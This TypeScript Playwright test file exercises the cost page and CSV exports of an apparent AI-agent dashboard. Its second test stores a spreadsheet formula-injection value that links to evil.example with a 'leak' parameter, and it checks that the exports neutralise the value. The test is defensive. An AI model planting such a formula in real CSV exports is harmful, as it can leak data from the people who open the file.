import { readFileSync } from "node:fs";
import { expect, test, type APIRequestContext } from "@playwright/test";
import { OUTCOME_CSV_HEADER, TASK_CSV_HEADER } from "../../server/domain/cost-rollup.ts";

// A manager on /costs: tasks launched and finished through the real stack (one of them
// answered once without usage by the scripted model, so its figure is estimated), then the page
// filtered by profile and week, the chart's labels checked against the table, a figure followed
// to its tasks, and the CSV downloaded and compared with the table cell by cell.

async function launch(request: APIRequestContext, input: Record<string, unknown>): Promise<string> {
  const res = await request.post("/api/trpc/task.launch", { data: { json: input } });
  expect(res.ok(), await res.text()).toBe(true);
  return ((await res.json()) as { result: { data: { json: { taskId: string } } } }).result.data.json.taskId;
}

async function status(request: APIRequestContext, taskId: string): Promise<string> {
  const res = await request.get(`/api/trpc/task.get?input=${encodeURIComponent(JSON.stringify({ json: { taskId } }))}`);
  return ((await res.json()) as { result: { data: { json: { status: string } } } }).result.data.json.status;
}

test("a manager filters /costs by profile and week, the chart agrees with the table, a figure leads to its tasks, the CSV equals the table", async ({
  page,
  request,
}) => {
  // One reply without usage: that call's tokens are estimated, and the figures built on it say so.
  const fault = await request.post(`http://127.0.0.1:${process.env.E2E_MODEL_PORT ?? 8887}/control/faults`, { data: { kind: "no_usage", count: 1 } });
  expect(fault.ok()).toBe(true);
  const tasks = [
    await launch(request, { demo: { kind: "license-audit", limit: 3 }, profile: "scripted" }),
    await launch(request, { demo: { kind: "license-audit", limit: 4 }, profile: "scripted" }),
    await launch(request, { goal: "Find the licence of a package that is not installed, or say why it cannot be done.", profile: "scripted-dead-end" }),
  ];
  for (const id of tasks) {
    await expect.poll(() => status(request, id), { timeout: 120_000, intervals: [500] }).toMatch(/^(completed|dead_end|failed|waiting_for_human)$/);
  }

  await page.goto("/costs");
  await expect(page.getByRole("heading", { name: "Costs" })).toBeVisible();
  await expect(page.getByTestId("headline-cpc")).toContainText("$");
  await expect(page.getByTestId("estimated-note")).toContainText("estimated");

  await page.getByRole("combobox", { name: "Profile", exact: true }).selectOption("scripted");
  await expect(page).toHaveURL(/profile=scripted/);
  await page.getByRole("button", { name: "Week" }).click();
  await expect(page).toHaveURL(/bucket=week/);
  await expect(page.getByRole("heading", { name: "By launch week (starting Monday, UTC)" })).toBeVisible();

  // The outcomes table holds the one profile; its spend is the headline's; it counts every
  // `scripted` task (other specs launch some too — the e2e database is shared), as the task list does.
  const table = page.getByTestId("outcomes-table");
  await expect(table.locator("tbody tr")).toHaveCount(1);
  const rowCells = await table.locator("tbody tr").first().locator("td").allInnerTexts();
  expect(rowCells[0]).toBe("scripted");
  const listed = await request.get(`/api/trpc/task.list?input=${encodeURIComponent(JSON.stringify({ json: { profile: "scripted", limit: 1 } }))}`);
  const scriptedTasks = ((await listed.json()) as { result: { data: { json: { total: number } } } }).result.data.json.total;
  expect(scriptedTasks).toBeGreaterThanOrEqual(2);
  expect(rowCells[2]).toBe(String(scriptedTasks));
  await expect(page.getByTestId("headline-spend")).toContainText(rowCells[7]!);

  // Chart vs table: the line's labels are the by-week table's cost per completed task, in order.
  const periodCpc = await page.getByTestId("by-period").locator('td[data-col="cpc"]').allInnerTexts();
  expect(periodCpc.length).toBeGreaterThan(0);
  const labels = page.getByTestId("chart-cpc").locator(".recharts-label-list text");
  await expect(labels).toHaveCount(periodCpc.length);
  expect((await labels.allTextContents()).map((t) => t.trim())).toEqual(periodCpc.map((t) => t.replace(/\*$/, "")));
  await expect(page.getByTestId("chart-causes").locator(".recharts-bar-rectangle").first()).toBeVisible();

  // The CSV is the table as data: the same rows and columns, each figure a plain number (no $ or %).
  const downloadPromise = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download CSV", exact: true }).click();
  const download = await downloadPromise;
  const csv = readFileSync(await download.path(), "utf8")
    .trimEnd()
    .split("\r\n");
  const header = await table.locator("thead th").allInnerTexts();
  expect(csv[0]).toBe(OUTCOME_CSV_HEADER.join(","));
  expect(csv[0]!.split(",")).toHaveLength(header.length);
  const data = csv[1]!.split(",");
  expect(data.slice(0, 4)).toEqual(rowCells.slice(0, 4));
  expect(csv[1]).not.toMatch(/[$%]/);
  expect(Number(data[4])).toBeCloseTo(Number(rowCells[4]!.replace("%", "")) / 100, 2);
  expect(Number(data[7])).toBeCloseTo(Number(rowCells[7]!.replace(/[$*]/g, "")), 4);
  expect(data.at(-1)).toBe("yes");
  expect(rowCells.at(-1)).toBe("yes");

  // Beside it, one row per task: every scripted task (this spec's two among them), ISO launch times, plain numbers.
  const perTaskPromise = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download per-task CSV" }).click();
  const perTask = readFileSync(await (await perTaskPromise).path(), "utf8")
    .trimEnd()
    .split("\r\n");
  expect(perTask[0]).toBe(TASK_CSV_HEADER.join(","));
  const taskRows = perTask.slice(1).map((l) => l.split(","));
  expect(taskRows).toHaveLength(scriptedTasks);
  expect(taskRows.map((r) => r[0])).toEqual(expect.arrayContaining(tasks.slice(0, 2)));
  for (const r of taskRows) {
    expect(r[1]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
    expect(r[2]).toBe("scripted");
    if (tasks.includes(r[0]!)) expect(Number(r[6])).toBeGreaterThan(0);
    expect(r[6]).toMatch(/^\d+$/);
    expect(r[8]).toMatch(/^\d+(\.\d+)?$/);
  }
  const perTaskUsd = taskRows.reduce((sum, r) => sum + Number(r[8]), 0);
  expect(perTaskUsd).toBeCloseTo(Number(data[7]), 6);
  // Each row names its price table, and the page names the tables its figures use.
  expect(header.at(-2)).toBe("Price table");
  expect(rowCells.at(-2)).toMatch(/^(genai-prices@\d|profile:)/);
  await expect(page.getByTestId("price-tables")).toContainText(rowCells.at(-2)!);
  await expect(page.getByTestId("price-tables")).toContainText("launch day (UTC)");

  // A figure leads to the tasks behind it.
  await page.getByTestId("headline-cpc").click();
  await expect(page).toHaveURL(/\/tasks\?(.*&)?profile=scripted(&|$)/);
  // The task list filters by status: the link's outcome arrives as status=completed, and every row shown is a completed scripted task.
  expect(new URL(page.url()).searchParams.get("status")).toBe("completed");
});

/** The fields of one RFC 4180 CSV line (quoted fields with doubled quotes; no line breaks inside a field). */
function csvFields(line: string): string[] {
  const out: string[] = [];
  let at = 0;
  while (at <= line.length) {
    if (line[at] === '"') {
      let v = "";
      let i = at + 1;
      for (;;) {
        const q = line.indexOf('"', i);
        if (q < 0) throw new Error(`unterminated quoted field in ${line}`);
        v += line.slice(i, q);
        if (line[q + 1] === '"') {
          v += '"';
          i = q + 2;
        } else {
          at = q + 2;
          break;
        }
      }
      out.push(v);
    } else {
      const comma = line.indexOf(",", at);
      const end = comma < 0 ? line.length : comma;
      out.push(line.slice(at, end));
      at = end + 1;
    }
  }
  return out;
}

test("a model name written as a spreadsheet formula reaches both CSVs neutralised; the numbers beside it stay plain", async ({ page, request }) => {
  // A profile's model is free text an admin writes (server/domain/profile-spec.ts), and both CSVs
  // carry it: the per-task CSV and the grouped one. A spreadsheet would run it as a formula.
  const name = `e2e-csv-${Date.now().toString(36)}`;
  const formula = '=HYPERLINK("https://evil.example/?leak","open me")';
  const created = await request.post("/api/trpc/profile.create", {
    data: { json: { spec: { name, model: formula, provider: "scripted", tools: ["finish"], stepBudget: 5 } } },
  });
  expect(created.ok(), await created.text()).toBe(true);
  // The scripted model server knows no such model: the task stops on its first model call; cancelled
  // if it still runs, so it costs nothing and its row is in the CSV whatever its end.
  const taskId = await launch(request, { goal: "Say hello, then finish.", profile: name });
  await request.post("/api/trpc/task.cancel", { data: { json: { taskId } } });
  await expect.poll(() => status(request, taskId), { timeout: 60_000, intervals: [500] }).toMatch(/^(completed|dead_end|failed|cancelled)$/);

  await page.goto(`/costs?profile=${name}`);
  const table = page.getByTestId("outcomes-table");
  await expect(table.locator("tbody tr")).toHaveCount(1);
  // On the page the name is shown as written (text, not a formula).
  await expect(table.locator("tbody tr").first()).toContainText(formula);

  const perTaskPromise = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download per-task CSV" }).click();
  const perTask = readFileSync(await (await perTaskPromise).path(), "utf8")
    .trimEnd()
    .split("\r\n");
  expect(perTask[0]).toBe(TASK_CSV_HEADER.join(","));
  expect(perTask).toHaveLength(2);
  const row = csvFields(perTask[1]!);
  expect(row).toHaveLength(TASK_CSV_HEADER.length);
  const col = (h: (typeof TASK_CSV_HEADER)[number]) => row[TASK_CSV_HEADER.indexOf(h)]!;
  expect(col("Task id")).toBe(taskId);
  expect(col("Profile")).toBe(name);
  // Neutralised: a leading apostrophe, the rest as written (the quotes doubled inside the quoted field).
  expect(col("Model")).toBe(`'${formula}`);
  expect(perTask[1]).toContain(`"'=HYPERLINK(""https://evil.example/?leak"",""open me"")"`);
  // No cell of the row starts like a formula; the figures are plain numbers.
  for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  for (const h of [
    "Budget steps (model + tool)",
    "Tokens billed (every model call)",
    "Cost (USD)",
    "Waste (USD)",
    "Checkpoint steps",
    "Human steps",
    "Cached prompt tokens",
    "Cache write tokens",
    "Reasoning tokens",
  ] as const) {
    expect(col(h), h).toMatch(/^\d+(\.\d+)?$/);
  }
  expect(col("Launched at (UTC)")).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);

  // The grouped CSV carries the model too: neutralised the same way.
  const groupedPromise = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download CSV", exact: true }).click();
  const grouped = readFileSync(await (await groupedPromise).path(), "utf8")
    .trimEnd()
    .split("\r\n");
  expect(grouped[0]).toBe(OUTCOME_CSV_HEADER.join(","));
  const groupedRow = csvFields(grouped[1]!);
  expect(groupedRow).toContain(`'${formula}`);
  for (const cell of groupedRow) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  expect(grouped[1]).not.toMatch(/[$%]/);
});
